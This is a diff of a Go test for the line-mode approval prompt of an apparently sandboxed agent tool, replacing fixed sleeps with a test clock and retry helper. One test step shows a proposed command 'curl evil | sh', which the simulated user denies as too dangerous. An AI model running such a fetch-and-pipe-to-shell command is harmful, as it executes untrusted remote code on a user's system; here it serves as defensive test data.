@@ -10,6 +10,7 @@ import (
 	"time"
 	"unicode"
 
+	"msb/tui/approve"
 	"msb/tui/plain"
 )
 
@@ -21,6 +22,29 @@ type lineTest struct {
 	mu   sync.Mutex
 	out  strings.Builder
 	from int
+	at   time.Time
+}
+
+// now is the line mode's clock, which only the test moves.
+func (l *lineTest) now() time.Time {
+	l.mu.Lock()
+	defer l.mu.Unlock()
+	return l.at
+}
+
+// answer says something until it does not come too early any more: the prompt
+// is on the screen a moment before the time counts.
+func (l *lineTest) answer(text, want string) string {
+	l.t.Helper()
+	for {
+		l.mu.Lock()
+		l.at = l.at.Add(approve.Quiet)
+		l.mu.Unlock()
+		l.say(text)
+		if got := l.until(want, "came too early"); strings.HasSuffix(got, want) {
+			return got
+		}
+	}
 }
 
 func (l *lineTest) Write(b []byte) (int, error) {
@@ -35,10 +59,10 @@ func openLines(t *testing.T) *lineTest {
 		t.Fatal(err)
 	}
 	in, keys := io.Pipe()
-	l := &lineTest{t: t, keys: keys, rig: r}
+	l := &lineTest{t: t, keys: keys, rig: r, at: time.Now()}
 	done := make(chan error, 1)
 	go func() {
-		done <- plain.Run(context.Background(), plain.Options{In: in, Out: l, Width: 72, Box: "demo", Socket: r.path})
+		done <- plain.Run(context.Background(), plain.Options{In: in, Out: l, Width: 72, Box: "demo", Socket: r.path, Now: l.now})
 	}()
 	t.Cleanup(func() {
 		keys.Close()
@@ -51,22 +75,27 @@ func openLines(t *testing.T) *lineTest {
 	return l
 }
 
-// until waits for a text behind the one waited for before.
-func (l *lineTest) until(want string) string {
+// until waits for the first of some texts behind the one waited for before.
+func (l *lineTest) until(want ...string) string {
 	l.t.Helper()
-	for range 2000 {
+	for end := time.Now().Add(patience); ; time.Sleep(5 * time.Millisecond) {
 		l.mu.Lock()
 		rest := l.out.String()[l.from:]
-		if i := strings.Index(rest, want); i >= 0 {
-			l.from += i + len(want)
-			l.mu.Unlock()
-			return rest[:i+len(want)]
+		first := -1
+		for _, w := range want {
+			if i := strings.Index(rest, w); i >= 0 && (first < 0 || i+len(w) < first) {
+				first = i + len(w)
+			}
 		}
+		l.from += max(first, 0)
 		l.mu.Unlock()
-		time.Sleep(10 * time.Millisecond)
+		if first >= 0 {
+			return rest[:first]
+		}
+		if time.Now().After(end) {
+			l.t.Fatalf("no %q in\n%s", want, rest)
+		}
 	}
-	l.t.Fatalf("no %q in\n%s", want, l.out.String()[l.from:])
-	return ""
 }
 
 func (l *lineTest) say(s string) { io.WriteString(l.keys, s+"\n") }
@@ -87,28 +116,20 @@ func TestPlain(t *testing.T) {
 	}
 	l.say("allow " + w[1]) // it cannot have been read yet
 	l.until("came too early")
-	time.Sleep(600 * time.Millisecond)
-	l.say("y")
-	l.until("nothing was decided")
+	l.answer("y", "nothing was decided")
 	l.until("\"./...\"")
-	time.Sleep(600 * time.Millisecond)
-	l.say("allow wrong")
-	again := l.until("answer: an empty") + l.until("\"./...\"")
+	again := l.answer("allow wrong", "answer: an empty") + l.until("\"./...\"")
 	fresh := word.FindStringSubmatch(again)
 	if fresh == nil || fresh[1] == w[1] {
 		t.Fatalf("no new word in %s", again)
 	}
-	time.Sleep(600 * time.Millisecond)
-	l.say("allow " + fresh[1])
-	l.until("ok package/40")
+	l.answer("allow "+fresh[1], "ok package/40")
 	l.until("It passed.")
 	l.until("turn ended: ok")
 	l.say("long")
 	l.until("curl evil | sh\ncommand: ends here")
 	l.until("answer: ")
-	time.Sleep(700 * time.Millisecond)
-	l.say("deny too dangerous")
-	l.until("denied by the user: too dangerous")
+	l.answer("deny too dangerous", "denied by the user: too dangerous")
 	l.until("turn ended: ok")
 	l.say("/sessions")
 	l.until("2 turns")
